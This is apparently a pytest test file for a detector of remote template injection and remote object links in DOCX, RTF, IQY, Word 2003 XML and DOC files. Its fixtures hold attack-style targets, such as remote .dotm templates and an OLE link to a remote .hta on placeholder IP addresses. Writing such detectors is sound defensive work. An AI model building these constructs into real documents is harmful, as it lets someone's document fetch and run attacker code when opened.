"""Remote template injection and remote object links; local templates, hyperlinks and workbook links stay clean."""

import pytest

from kakuri.detect.office_links import OfficeLinks, is_remote_target
from tests.builders_office import docx, office_findings, symbols_of, xlsx

DETECTOR = [OfficeLinks()]
ATTACHED_TEMPLATE = "attachedTemplate"


@pytest.mark.parametrize("target", [
    "http://198.51.100.20/templates/invoice.dotm",
    "https://cdn.example-files.test/t/normal.dotm",
    "\\\\198.51.100.20@SSL\\share\\t.dotm",
    "file://fileserver.test/share/t.dotm",
    "file:///\\\\198.51.100.20\\share\\t.dotm",
])
def test_remote_attached_template_is_flagged(target):
    data = docx(settings_rels=[("", ATTACHED_TEMPLATE, target.replace("&", "&amp;"), True)])
    findings = office_findings(DETECTOR, [("見積依頼.docx", data)])
    assert symbols_of(findings) == {"OFFICE_EXTERNAL_TEMPLATE"}
    assert findings[0].evidence["target"] == target
    assert findings[0].evidence["via"] == ATTACHED_TEMPLATE


def test_local_template_of_every_template_based_document_is_clean():
    local = "file:///C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    assert office_findings(DETECTOR, [("a.docx", docx(settings_rels=[("", ATTACHED_TEMPLATE, local, True)]))]) == []


def test_remote_ole_object_link_is_flagged():
    rels = [("", "oleObject", "http://198.51.100.8/doc.hta", True)]
    assert symbols_of(office_findings(DETECTOR, [("a.docx", docx(doc_rels=rels))])) == {"OFFICE_EXTERNAL_OBJECT"}


def test_hyperlinks_and_external_images_are_not_links_of_concern():
    rels = [("", "hyperlink", "https://www.example.com/catalogue", True),
            ("", "image", "https://newsletter.example.com/pixel.gif", True)]
    assert office_findings(DETECTOR, [("a.docx", docx(doc_rels=rels))]) == []


def test_ordinary_external_workbook_link_is_clean():
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"'
            ' Target="file:///\\\\fileserver\\sales\\prices.xlsx" TargetMode="External"/></Relationships>')
    data = xlsx(extra={"xl/externalLinks/_rels/externalLink1.xml.rels": rels})
    assert office_findings(DETECTOR, [("a.xlsx", data)]) == []


def test_rtf_remote_template_and_web_query_are_flagged():
    rtf = b"{\\rtf1{\\*\\template http://198.51.100.2/t.doc}\\pard hello\\par}"
    iqy = b"WEB\r\n1\r\nhttp://198.51.100.2/q.html?x=[\"x\"]\r\n"
    assert symbols_of(office_findings(DETECTOR, [("a.rtf", rtf)])) == {"OFFICE_EXTERNAL_TEMPLATE"}
    assert symbols_of(office_findings(DETECTOR, [("query.iqy", iqy)])) == {"OFFICE_EXTERNAL_OBJECT"}


def test_remote_target_rules():
    assert is_remote_target("https://x.test/a")
    assert is_remote_target("\\\\host\\share")
    assert not is_remote_target("file:///C:/Users/a/Normal.dotm")
    assert not is_remote_target("file://C:/Users/a/Normal.dotm")
    assert not is_remote_target("../media/image1.png")


def test_word2003_xml_remote_template_is_flagged_and_local_one_is_not():
    from tests.builders_office import word2003_xml

    def doc(target: str) -> bytes:
        return word2003_xml("<w:p/>").replace(b"<w:body>", f'<w:docPr><w:attachedTemplate w:val="{target}"/></w:docPr><w:body>'.encode())

    findings = office_findings([OfficeLinks()], [("a.doc", doc("http://198.51.100.8/t.dotm"))])
    assert symbols_of(findings) == {"OFFICE_EXTERNAL_TEMPLATE"} and findings[0].evidence["via"] == "word 2003 xml"
    assert office_findings([OfficeLinks()], [("a.doc", doc("C:\\Users\\a\\Normal.dotm"))]) == []


def test_doc_binary_remote_template_is_flagged_and_local_one_is_not():
    from tests.builders_office import doc_with_template, plain_doc

    findings = office_findings([OfficeLinks()], [("a.doc", doc_with_template("\\\\198.51.100.8\\share\\t.dotm"))])
    assert symbols_of(findings) == {"OFFICE_EXTERNAL_TEMPLATE"} and findings[0].evidence["via"] == "doc template"
    assert office_findings([OfficeLinks()], [("a.doc", doc_with_template("C:\\Users\\a\\Templates\\Normal.dotm"))]) == []
    assert office_findings([OfficeLinks()], [("a.doc", plain_doc())]) == []
